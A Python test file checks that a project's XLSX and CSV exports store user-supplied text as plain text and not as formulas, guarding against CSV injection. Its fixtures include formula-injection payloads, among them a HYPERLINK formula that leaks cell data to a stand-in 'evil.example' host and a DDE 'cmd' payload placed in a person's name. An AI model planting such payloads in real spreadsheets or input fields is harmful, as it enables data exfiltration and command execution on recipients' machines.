"""People's text goes into XLSX and CSV exports as text, never as a formula
(issue 10, finding 9; OWASP CSV injection)."""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from equiserve.spreadsheets import csv_row, xlsx_cell, xlsx_row
from equiserve.testkit import XIAOLAN, make_person

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
SOURCE = Path(__file__).resolve().parents[1] / "src" / "equiserve"


def _saved(book) -> Workbook:
    buffer = io.BytesIO()
    book.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


@pytest.mark.parametrize("write_only", [False, True])
def test_formula_like_text_is_written_as_a_string_cell(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*HOSTILE, 42, -7.5, None, "plain"]))
    row = next(_saved(book)["s"].iter_rows())
    # XML reads a carriage return back as a line feed.
    assert [(c.value, c.data_type) for c in row[: len(HOSTILE)]] == [
        (text.replace("\r", "\n"), "s") for text in HOSTILE
    ]
    assert [c.value for c in row[len(HOSTILE) :]] == [42, -7.5, None, "plain"]
    assert row[len(HOSTILE)].data_type == "n"


def test_a_cell_written_one_by_one_keeps_text_and_drops_control_characters():
    book = Workbook()
    sheet = book.active
    xlsx_cell(sheet, 1, 1, "=1+1")
    xlsx_cell(sheet, 1, 2, "name\x07with a bell")
    saved = _saved(book).active
    assert (saved["A1"].value, saved["A1"].data_type) == ("=1+1", "s")
    assert saved["B1"].value == "namewith a bell"


def test_csv_cells_that_would_be_formulas_get_an_apostrophe():
    assert csv_row(["=1+1", "-5", "@x", "ok", 3, None]) == [
        "'=1+1",
        "'-5",
        "'@x",
        "ok",
        3,
        None,
    ]


@pytest.mark.django_db
def test_the_registry_export_writes_a_hostile_name_as_text(demo_accounts, login):
    # A person's name holds at most 32 characters (PostgreSQL enforces it).
    hostile_name = "=cmd|' /C calc'!A0"
    make_person(XIAOLAN, name=hostile_name, key="@p-hostile")
    response = login("town-xiaolan").get("/registry/persons/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = [row for row in sheet.iter_rows(min_row=2) if row[1].value == hostile_name]
    assert len(rows) == 1
    assert (rows[0][0].value, rows[0][0].data_type) == ("@p-hostile", "s")
    assert rows[0][1].data_type == "s"


def test_every_spreadsheet_writer_uses_the_shared_helper():
    """A module that writes cells with openpyxl or csv writes through spreadsheets.py."""
    writes = re.compile(r"\.append\(|\.cell\(|csv\.writer|DictWriter")
    unguarded = []
    for path in SOURCE.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        writer = "openpyxl import Workbook" in text or "csv.writer" in text
        if writer and writes.search(text) and "equiserve.spreadsheets" not in text:
            unguarded.append(path.relative_to(SOURCE).as_posix())
    assert unguarded == []


def test_a_csv_export_reads_back_with_the_apostrophe():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["=cmd|' /C calc'!A0", "p-1"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'=cmd|' /C calc'!A0",
        "p-1",
    ]
